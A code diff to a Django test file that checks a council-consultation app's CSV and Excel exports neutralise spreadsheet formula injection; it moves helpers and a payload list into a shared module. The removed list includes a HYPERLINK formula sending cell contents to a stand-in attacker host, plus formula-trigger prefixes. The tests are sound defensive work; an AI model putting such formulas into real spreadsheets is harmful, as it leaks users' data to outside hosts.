@@ -5,52 +5,24 @@ injection") goes out as text in both, and the plan's CSV still reads back unchan
 
 from __future__ import annotations
 
-import csv
 import datetime
 import io
 from html import unescape
 
-import openpyxl
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from common.tests.spreadsheets import FORMULA_ATTACKS as ATTACKS
+from common.tests.spreadsheets import body, read_csv, read_xlsx
 from proposals.models import Advice, Proposal
 from proposals.services import CSV_COLUMNS
 from proposals.tests.factories import AdviceFactory, PlanFactory, ProposalFactory
 
 pytestmark = pytest.mark.django_db
 
-ATTACKS = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
-    "+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\tx",
-    "\rx",
-]
 LATE = datetime.date(2020, 1, 1)
-
-
-def _body(response) -> bytes:
-    assert response.status_code == 200
-    return b"".join(response.streaming_content) if response.streaming else response.content
-
-
-def read_csv(response) -> list[list[str]]:
-    body = _body(response)
-    assert body.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel reads CliÃ«ntenraad"
-    text = body.decode("utf-8")
-    # Every line ends in CRLF (a lone CR or LF only inside a quoted cell).
-    records = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
-    assert text.endswith("\r\n") and text.count("\r\n") >= len(records)
-    return records
-
-
-def read_xlsx(response):
-    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    return openpyxl.load_workbook(io.BytesIO(_body(response))).active
 
 
 def _plan(roles, n=0):
@@ -110,7 +82,7 @@ def test_the_neutralised_plan_csv_reads_back_into_a_fresh_plan_unchanged(client,
         ProposalFactory(plan=plan, number=number, title=f"{attack} titel", text=attack)
     fresh = PlanFactory(council=roles.council, title="Plan 2027")
     client.force_login(roles["secretary"])
-    exported = _body(client.get(f"/vinger-aan-de-pols/plan/{plan.pk}.csv"))
+    exported = body(client.get(f"/vinger-aan-de-pols/plan/{plan.pk}.csv"))
     upload = io.BytesIO(exported)
     upload.name = "plan.csv"
     check = client.post("/vinger-aan-de-pols/import/", {"file": upload, "plan": fresh.pk})
@@ -172,7 +144,7 @@ def test_pulse_exports_neutralise_formulas(client, roles):
 
 def _queries(client, url) -> int:
     with CaptureQueriesContext(connection) as captured:
-        _body(client.get(url))
+        body(client.get(url))
     return len(captured)
 
 
